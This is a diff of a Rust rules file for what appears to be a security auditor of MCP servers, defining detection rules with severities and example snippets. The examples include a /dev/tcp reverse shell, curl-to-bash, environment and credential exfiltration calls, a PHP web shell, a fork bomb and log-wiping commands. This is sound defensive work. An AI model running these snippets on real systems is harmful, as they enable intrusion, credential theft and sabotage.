@@ -1,174 +1,215 @@
 //! The code rules: ids, categories, default severities and documentation.
 
-use crate::model::{Category, Severity};
-use crate::rules::Rule;
+mcp_audit_core::declare_rules! {
+    /// Code rules.
+    pub static RULES;
 
-macro_rules! rule {
-    ($(#[$doc:meta])* $name:ident, $id:literal, $cat:ident, $sev:ident, $summary:literal, $example:literal) => {
-        $(#[$doc])*
-        pub static $name: Rule = Rule {
-            id: $id,
-            category: Category::$cat,
-            severity: Severity::$sev,
-            summary: $summary,
-            example: $example,
-        };
-    };
-}
-
-rule!(
     /// A capability of the code, for the record.
-    CODE_CAPABILITY, "code-capability", CodeExecution, Info,
-    "The code uses a capability (network, files, processes, dynamic code, environment, mail); information only.",
-    "`fetch(url)` in dist/index.js: capability `network`"
-);
-rule!(
+    CODE_CAPABILITY = (
+        "code-capability",
+        CodeExecution,
+        Info,
+        "The code uses a capability (network, files, processes, dynamic code, environment, mail); information only.",
+        "`fetch(url)` in dist/index.js: capability `network`",
+    );
     /// Secret files read in a file that also talks to the network.
-    CREDENTIAL_EXFILTRATION, "credential-exfiltration", Exfiltration, Critical,
-    "Code reads secret files (SSH keys, cloud credentials, browser data, wallets, other AI clients' configs) and sends data over the network.",
-    "`open(os.path.expanduser('~/.aws/credentials'))` next to `requests.post(...)`"
-);
-rule!(
+    CREDENTIAL_EXFILTRATION = (
+        "credential-exfiltration",
+        Exfiltration,
+        Critical,
+        "Code reads secret files (SSH keys, cloud credentials, browser data, wallets, other AI clients' configs) and sends data over the network.",
+        "`open(os.path.expanduser('~/.aws/credentials'))` next to `requests.post(...)`",
+    );
     /// The whole environment, or its secret-looking variables, collected next to a network call.
-    ENV_EXFILTRATION, "env-exfiltration", Exfiltration, High,
-    "Code serializes the whole environment (every token and key in it), or picks out the variables whose names look like secrets, in a file that talks to the network; critical with a raw-IP or drop-site endpoint.",
-    "`fetch('http://203.0.113.9', {body: JSON.stringify(process.env)})`"
-);
-rule!(
+    ENV_EXFILTRATION = (
+        "env-exfiltration",
+        Exfiltration,
+        High,
+        "Code serializes the whole environment (every token and key in it), or picks out the variables whose names look like secrets, in a file that talks to the network; critical with a raw-IP or drop-site endpoint.",
+        "`fetch('http://203.0.113.9', {body: JSON.stringify(process.env)})`",
+    );
     /// The whole environment serialized, or its secret-looking variables collected.
-    ENVIRONMENT_HARVEST, "environment-harvest", SensitiveAccess, Low,
-    "Code serializes the whole environment rather than reading the variables it needs (low), or walks it keeping the variables named like secrets (TOKEN, SECRET, KEY…) without redacting them (medium).",
-    "`json.dumps(dict(os.environ))`"
-);
-rule!(
+    ENVIRONMENT_HARVEST = (
+        "environment-harvest",
+        SensitiveAccess,
+        Low,
+        "Code serializes the whole environment rather than reading the variables it needs (low), or walks it keeping the variables named like secrets (TOKEN, SECRET, KEY…) without redacting them (medium).",
+        "`json.dumps(dict(os.environ))`",
+    );
     /// Secret files read, without a network call in the same file.
-    SENSITIVE_FILE_ACCESS, "sensitive-file-access", SensitiveAccess, Medium,
-    "Code names and reads secret files: SSH keys, cloud credentials, browser profiles, wallets, other AI clients' MCP configuration.",
-    "`fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))`"
-);
-rule!(
+    SENSITIVE_FILE_ACCESS = (
+        "sensitive-file-access",
+        SensitiveAccess,
+        Medium,
+        "Code names and reads secret files: SSH keys, cloud credentials, browser profiles, wallets, other AI clients' MCP configuration.",
+        "`fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))`",
+    );
     /// Writes into another AI client's configuration.
-    AI_CONFIG_WRITE, "ai-config-write", SensitiveAccess, Medium,
-    "Code writes into an AI client's MCP configuration (claude_desktop_config.json, ~/.cursor/mcp.json, …): it can add or replace servers; high when the same file talks to the network.",
-    "`fs.writeFileSync(claudeConfigPath, JSON.stringify(config))`"
-);
-rule!(
+    AI_CONFIG_WRITE = (
+        "ai-config-write",
+        SensitiveAccess,
+        Medium,
+        "Code writes into an AI client's MCP configuration (claude_desktop_config.json, ~/.cursor/mcp.json, …): it can add or replace servers; high when the same file talks to the network.",
+        "`fs.writeFileSync(claudeConfigPath, JSON.stringify(config))`",
+    );
     /// Hard-coded endpoint of a kind attackers favour.
-    SUSPICIOUS_ENDPOINT, "suspicious-endpoint", Exfiltration, Medium,
-    "A hard-coded paste site, request catcher, tunnel or file-drop endpoint (medium); a raw public IP or a chat webhook / bot API (low: honest uses exist). Next to secrets or the environment they make exfiltration findings critical.",
-    "`https://webhook.site/…`, `http://45.77.10.3:8080/c`, `https://x.ngrok-free.app`"
-);
-rule!(
+    SUSPICIOUS_ENDPOINT = (
+        "suspicious-endpoint",
+        Exfiltration,
+        Medium,
+        "A hard-coded paste site, request catcher, tunnel or file-drop endpoint (medium); a raw public IP or a chat webhook / bot API (low: honest uses exist). Next to secrets or the environment they make exfiltration findings critical.",
+        "`https://webhook.site/…`, `http://45.77.10.3:8080/c`, `https://x.ngrok-free.app`",
+    );
     /// The cloud metadata service.
-    CLOUD_METADATA_ACCESS, "cloud-metadata-access", SensitiveAccess, High,
-    "Code addresses the cloud instance metadata service, where instance credentials live.",
-    "`requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')`"
-);
-rule!(
+    CLOUD_METADATA_ACCESS = (
+        "cloud-metadata-access",
+        SensitiveAccess,
+        High,
+        "Code addresses the cloud instance metadata service, where instance credentials live.",
+        "`requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')`",
+    );
     /// Hard-coded blind-copy recipient (the postmark-mcp backdoor).
-    HIDDEN_MAIL_RECIPIENT, "hidden-mail-recipient", Exfiltration, Critical,
-    "A mail call carries a hard-coded Bcc (critical) or Cc (high) recipient: every message the user sends is copied to that address.",
-    "`Bcc: 'collector@example.net'` in the send-email handler"
-);
-rule!(
+    HIDDEN_MAIL_RECIPIENT = (
+        "hidden-mail-recipient",
+        Exfiltration,
+        Critical,
+        "A mail call carries a hard-coded Bcc (critical) or Cc (high) recipient: every message the user sends is copied to that address.",
+        "`Bcc: 'collector@example.net'` in the send-email handler",
+    );
     /// Decoded data evaluated or executed.
-    DECODE_AND_EXEC, "decode-and-exec", CodeExecution, Critical,
-    "Data is decoded (base64, hex, zlib, marshal) and then evaluated or executed: hidden code.",
-    "`exec(base64.b64decode(blob))`, `eval(atob(s))`"
-);
-rule!(
+    DECODE_AND_EXEC = (
+        "decode-and-exec",
+        CodeExecution,
+        Critical,
+        "Data is decoded (base64, hex, zlib, marshal) and then evaluated or executed: hidden code.",
+        "`exec(base64.b64decode(blob))`, `eval(atob(s))`",
+    );
     /// Download piped into a shell.
-    DOWNLOAD_AND_EXECUTE, "download-and-execute", CodeExecution, Critical,
-    "A command downloads a script or binary and runs it (`curl … | sh`, `wget … && chmod +x`, `iwr … | iex`).",
-    "`execSync('curl -s https://x.example/i.sh | bash')`"
-);
-rule!(
+    DOWNLOAD_AND_EXECUTE = (
+        "download-and-execute",
+        CodeExecution,
+        Critical,
+        "A command downloads a script or binary and runs it (`curl … | sh`, `wget … && chmod +x`, `iwr … | iex`).",
+        "`execSync('curl -s https://x.example/i.sh | bash')`",
+    );
     /// Reverse shell.
-    REVERSE_SHELL, "reverse-shell", CodeExecution, Critical,
-    "Code connects a shell to a remote socket (`/dev/tcp`, `nc -e`, socket + dup2 + /bin/sh).",
-    "`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`"
-);
-rule!(
+    REVERSE_SHELL = (
+        "reverse-shell",
+        CodeExecution,
+        Critical,
+        "Code connects a shell to a remote socket (`/dev/tcp`, `nc -e`, socket + dup2 + /bin/sh).",
+        "`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`",
+    );
     /// Cryptocurrency miner.
-    CRYPTO_MINER, "crypto-miner", CodeExecution, Critical,
-    "Code references a mining pool protocol or miner (`stratum+tcp://`, xmrig).",
-    "`stratum+tcp://pool.example:3333`"
-);
-rule!(
+    CRYPTO_MINER = (
+        "crypto-miner",
+        CodeExecution,
+        Critical,
+        "Code references a mining pool protocol or miner (`stratum+tcp://`, xmrig).",
+        "`stratum+tcp://pool.example:3333`",
+    );
     /// Persistence on the user's machine.
-    PERSISTENCE, "persistence", CodeExecution, High,
-    "Code that writes files or runs commands names a persistence location: crontab, shell profiles, authorized_keys, LaunchAgents, systemd units, Run keys.",
-    "`(crontab -l; echo '@reboot …') | crontab -`"
-);
-rule!(
+    PERSISTENCE = (
+        "persistence",
+        CodeExecution,
+        High,
+        "Code that writes files or runs commands names a persistence location: crontab, shell profiles, authorized_keys, LaunchAgents, systemd units, Run keys.",
+        "`(crontab -l; echo '@reboot …') | crontab -`",
+    );
     /// Fork bombs and deliberate exhaustion.
-    RESOURCE_EXHAUSTION, "resource-exhaustion", CodeExecution, High,
-    "Code forks in an endless loop or carries a fork bomb.",
-    "`while True: os.fork()`"
-);
-rule!(
-    /// Debugger and sandbox detection.
-    ANTI_ANALYSIS, "anti-analysis", Obfuscation, Medium,
-    "Code checks for debuggers, tracers or virtual machines, a trait of malware hiding from analysis.",
-    "`if sys.gettrace(): return`, reading `TracerPid` from /proc/self/status"
-);
-rule!(
-    /// Deliberately unreadable code.
-    OBFUSCATED_CODE, "obfuscated-code", Obfuscation, High,
-    "Code is obfuscated: obfuscator.io `_0x…` tables, packed `eval(function(p,a,c,k,e,d)…)`, `exec(''.join(chr(…)))`, long `\\x` escape strings.",
-    "`var _0x3f2a=['\\x72\\x65…'];(function(_0x1b2c,_0x3f2a){…})`"
-);
-rule!(
-    /// A long encoded string fed to a decoder.
-    ENCODED_PAYLOAD, "encoded-payload", Obfuscation, Medium,
-    "A long base64 or hex literal is decoded at run time; what it holds is invisible to review.",
-    "`base64.b64decode('aW1wb3J0IHNvY2tldC…')` (400 characters)"
-);
-rule!(
-    /// Tool arguments reaching a shell.
-    TOOL_INPUT_TO_SHELL, "tool-input-to-shell", CodeExecution, High,
-    "A tool handler passes an argument into a shell command: the model (or a prompt injection it read) can run any command.",
-    "`os.system(f\"ping {host}\")` in an `@mcp.tool()` function"
-);
-rule!(
-    /// Tool arguments reaching an evaluator.
-    TOOL_INPUT_TO_EVAL, "tool-input-to-eval", CodeExecution, High,
-    "A tool handler passes an argument to `eval`, `exec`, `new Function`, `vm` or a template engine.",
-    "`eval(args.expression)` in a calculator tool"
-);
-rule!(
-    /// Shipped native executables.
-    SHIPPED_EXECUTABLE, "shipped-executable", BinaryPayload, Medium,
-    "The package ships a native executable (ELF, PE, Mach-O) that cannot be reviewed as source; low for native extension libraries.",
-    "`bin/helper` starting with `\\x7fELF`"
-);
-rule!(
-    /// Source files that could not be read.
-    SOURCE_NOT_ANALYZED, "source-not-analyzed", CodeExecution, Low,
-    "A source file was too large or unreadable and was not analyzed.",
-    "a 70 MB `dist/index.js`"
-);
-rule!(
-    /// A read-only tool whose handler changes things.
-    READONLY_TOOL_MUTATES, "readonly-tool-mutates", ManifestMismatch, Medium,
-    "A tool annotated `readOnlyHint: true` has a handler that writes or deletes files or runs processes.",
-    "`annotations: {readOnlyHint: true}` on a tool whose handler calls `fs.unlinkSync`"
-);
-rule!(
-    /// MCPB manifest tools differ from the code's.
-    MCPB_TOOLS_MISMATCH, "mcpb-tools-mismatch", ManifestMismatch, Medium,
-    "The MCPB manifest declares tools the code does not register, or the code registers tools the manifest does not declare.",
-    "manifest lists `read_file`; the server registers `read_file` and `upload_file`"
-);
-rule!(
+    RESOURCE_EXHAUSTION = (
+        "resource-exhaustion",
+        CodeExecution,
+        High,
+        "Code forks in an endless loop or carries a fork bomb.",
+        "`while True: os.fork()`",
+    );
     /// Security controls disabled, logs or history wiped.
-    SECURITY_TAMPERING, "security-tampering", CodeExecution, High,
-    "Code disables security controls (SELinux, firewalls, auditd, Defender) or wipes logs and shell history.",
-    "`os.system('setenforce 0')`, `iptables -F`, `unset HISTFILE`"
-);
-rule!(
+    SECURITY_TAMPERING = (
+        "security-tampering",
+        CodeExecution,
+        High,
+        "Code disables security controls (SELinux, firewalls, auditd, Defender) or wipes logs and shell history.",
+        "`os.system('setenforce 0')`, `iptables -F`, `unset HISTFILE`",
+    );
     /// Web shell carried in the code.
-    WEB_SHELL, "web-shell", CodeExecution, Critical,
-    "Code carries a web shell: a server page that runs commands taken from the request.",
-    "`<?php system($_GET['cmd']); ?>` written under /var/www"
-);
+    WEB_SHELL = (
+        "web-shell",
+        CodeExecution,
+        Critical,
+        "Code carries a web shell: a server page that runs commands taken from the request.",
+        "`<?php system($_GET['cmd']); ?>` written under /var/www",
+    );
+    /// Debugger and sandbox detection.
+    ANTI_ANALYSIS = (
+        "anti-analysis",
+        Obfuscation,
+        Medium,
+        "Code checks for debuggers, tracers or virtual machines, a trait of malware hiding from analysis.",
+        "`if sys.gettrace(): return`, reading `TracerPid` from /proc/self/status",
+    );
+    /// Deliberately unreadable code.
+    OBFUSCATED_CODE = (
+        "obfuscated-code",
+        Obfuscation,
+        High,
+        "Code is obfuscated: obfuscator.io `_0x…` tables, packed `eval(function(p,a,c,k,e,d)…)`, `exec(''.join(chr(…)))`, long `\\x` escape strings.",
+        "`var _0x3f2a=['\\x72\\x65…'];(function(_0x1b2c,_0x3f2a){…})`",
+    );
+    /// A long encoded string fed to a decoder.
+    ENCODED_PAYLOAD = (
+        "encoded-payload",
+        Obfuscation,
+        Medium,
+        "A long base64 or hex literal is decoded at run time; what it holds is invisible to review.",
+        "`base64.b64decode('aW1wb3J0IHNvY2tldC…')` (400 characters)",
+    );
+    /// Tool arguments reaching a shell.
+    TOOL_INPUT_TO_SHELL = (
+        "tool-input-to-shell",
+        CodeExecution,
+        High,
+        "A tool handler passes an argument into a shell command: the model (or a prompt injection it read) can run any command.",
+        "`os.system(f\"ping {host}\")` in an `@mcp.tool()` function",
+    );
+    /// Tool arguments reaching an evaluator.
+    TOOL_INPUT_TO_EVAL = (
+        "tool-input-to-eval",
+        CodeExecution,
+        High,
+        "A tool handler passes an argument to `eval`, `exec`, `new Function`, `vm` or a template engine.",
+        "`eval(args.expression)` in a calculator tool",
+    );
+    /// Shipped native executables.
+    SHIPPED_EXECUTABLE = (
+        "shipped-executable",
+        BinaryPayload,
+        Medium,
+        "The package ships a native executable (ELF, PE, Mach-O) that cannot be reviewed as source; low for native extension libraries.",
+        "`bin/helper` starting with `\\x7fELF`",
+    );
+    /// Source files that could not be read.
+    SOURCE_NOT_ANALYZED = (
+        "source-not-analyzed",
+        CodeExecution,
+        Low,
+        "A source file was too large or unreadable and was not analyzed.",
+        "a 70 MB `dist/index.js`",
+    );
+    /// A read-only tool whose handler changes things.
+    READONLY_TOOL_MUTATES = (
+        "readonly-tool-mutates",
+        ManifestMismatch,
+        Medium,
+        "A tool annotated `readOnlyHint: true` has a handler that writes or deletes files or runs processes.",
+        "`annotations: {readOnlyHint: true}` on a tool whose handler calls `fs.unlinkSync`",
+    );
+    /// MCPB manifest tools differ from the code's.
+    MCPB_TOOLS_MISMATCH = (
+        "mcpb-tools-mismatch",
+        ManifestMismatch,
+        Medium,
+        "The MCPB manifest declares tools the code does not register, or the code registers tools the manifest does not declare.",
+        "manifest lists `read_file`; the server registers `read_file` and `upload_file`",
+    );
+}
